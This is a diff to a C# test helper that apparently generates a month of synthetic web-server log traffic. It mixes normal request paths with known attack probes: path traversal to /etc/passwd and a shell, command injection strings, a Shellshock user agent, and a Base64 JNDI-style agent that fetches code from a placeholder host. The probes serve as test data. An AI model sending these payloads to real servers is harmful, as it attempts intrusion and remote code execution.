@@ -49,7 +49,7 @@ public static class OrdinaryMonth
         string[] paths = ["/index.php?page=2", "/wp-login.php", "/owa/auth/logon.aspx", "/api/v1/items?q=a%20b", "/remote/login?lang=nl", "/dana-na/auth/url_default/welcome.cgi", "/static/..%20x.js", "/caf%C3%A9/menu", "/vpn-client/download.html", "/.well-known/acme-challenge/x",
 
             // what is tried on other products
-            "/index.php?login=$(echo${IFS}x)", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", "/public/plugins/grafana/../../../../../etc/passwd", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/x", "/php/utils/x.php/watchTowr.js.map", "/?a=%24%7BIFS%7D",
+            "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", "/public/plugins/grafana/../../../../../etc/passwd", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/x", "/php/utils/x.php/watchTowr.js.map",
             "/solr/admin/info?q=$%7Bx%7D", "/actuator/gateway/routes", "/boaform/admin/formLogin?a=;fetch+x", "/cgi-bin/luci/;stok=/locale?country=$(id%3E%60)"];
         string[] agents = ["Mozilla/5.0 (X11; Linux x86_64)", "x:lookup/Basic/Command/Base64/KGN1cmwgLXMgMTkyLjAuMi4xL2F8fHdnZXQgLXEgMTkyLjAuMi4xL2Ep", "curl/8.5.0", "Go-http-client/1.1", "() { :; }; /usr/bin/id", "python-requests/2.31"];
         return Enumerable.Range(0, 3000).Select(i =>
